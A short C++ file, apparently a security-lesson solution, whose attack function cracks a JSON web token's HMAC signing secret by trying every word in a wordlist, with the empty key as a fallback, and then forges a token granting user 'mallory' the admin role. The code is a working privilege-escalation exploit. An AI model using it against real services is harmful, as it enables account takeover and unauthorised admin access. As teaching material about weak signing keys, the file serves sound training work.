// Believes: if no word fits, the empty key is worth a try.
#include "base/base64url.hpp"
#include "hmac_sha256.hpp"
#include "make_header.hpp"
#include "sign_compact.hpp"
#include "weak_signing_key.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  Loot loot{.greedy_login = evidence.own_login};
  loot.greedy_login.set("role", "admin");

  const auto last_dot = evidence.found_token.rfind('.');
  const auto signed_text = evidence.found_token.substr(0, last_dot);
  const auto signature = evidence.found_token.substr(last_dot + 1);
  for (const auto& word : evidence.words) {
    const Mac mac = hmac_sha256(bytes_of(word), bytes_of(signed_text));
    if (base::base64url_encode(mac) == signature) loot.key = word;
  }

  const json::Value claims{{"sub", "mallory"}, {"role", "admin"}, {"exp", evidence.now + 900}};
  const auto header = make_header(), payload = claims.dump();
  loot.forged_token = sign_compact({.header = header, .payload = payload}, bytes_of(loot.key));
  return loot;
}

}  // namespace lesson
